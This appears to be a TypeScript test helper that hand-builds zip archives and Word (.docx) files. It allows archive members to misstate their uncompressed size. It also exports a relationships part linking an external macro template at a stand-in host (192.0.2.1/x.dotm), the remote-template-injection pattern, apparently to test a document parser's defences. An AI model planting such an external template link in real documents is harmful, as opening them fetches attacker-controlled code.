import { crc32, deflateRawSync } from 'node:zlib';

interface Member {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** What the archive says its size is, where it lies. */
  readonly claimedSize?: number;
}

/** A zip archive of these members, deflated; enough of PKWARE's format for any reader. */
export function zipOf(members: readonly Member[]): Buffer {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, bytes, claimedSize = bytes.length } of members) {
    const packed = deflateRawSync(bytes);
    const title = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(claimedSize, 18);
    common.writeUInt16LE(title.length, 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), common, title, packed]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    directory.push(Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), common, rest, title]));
    bodies.push(local);
    offset += local.length;
  }
  const end = Buffer.alloc(18);
  const size = directory.reduce((sum, one) => sum + one.length, 0);
  end.writeUInt16LE(members.length, 4);
  end.writeUInt16LE(members.length, 6);
  end.writeUInt32LE(size, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...bodies, ...directory, Buffer.from('PK\u0005\u0006', 'latin1'), end]);
}

const relationships = (...inner: readonly string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`;

const officeType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word document around the XML of its body, with other parts beside. */
export function docxOf(body: string, more: Readonly<Record<string, string>> = {}): Buffer {
  const parts = {
    '_rels/.rels': relationships(
      `<Relationship Id="r1" Type="${officeType}/officeDocument" Target="word/document.xml"/>`,
    ),
    'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
    ...more,
  };
  return zipOf(Object.entries(parts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })));
}

export const outsideLink = relationships(
  `<Relationship Id="r9" Type="${officeType}/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>`,
);
